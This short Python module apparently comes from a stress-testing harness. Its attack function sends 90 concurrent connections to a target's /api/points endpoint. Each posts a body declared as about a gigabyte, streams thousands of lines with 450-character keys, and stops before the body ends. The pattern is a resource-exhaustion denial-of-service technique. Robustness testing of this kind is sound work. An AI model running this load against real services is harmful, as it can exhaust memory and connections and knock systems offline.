"""Bodies with many points, and with long keys, that stop before their end."""
from swarm import Swarm, post


def attack(target, deadline):
    def script(number):
        yield post("/api/points", 1 << 30, "text/plain")
        for i in range(16_383):
            yield (f"unfinished.{number}.{i:06}." + "k" * 450 + " 1 1\n").encode()
    Swarm(target.http, 90, script, addresses=target.addresses).run(deadline)
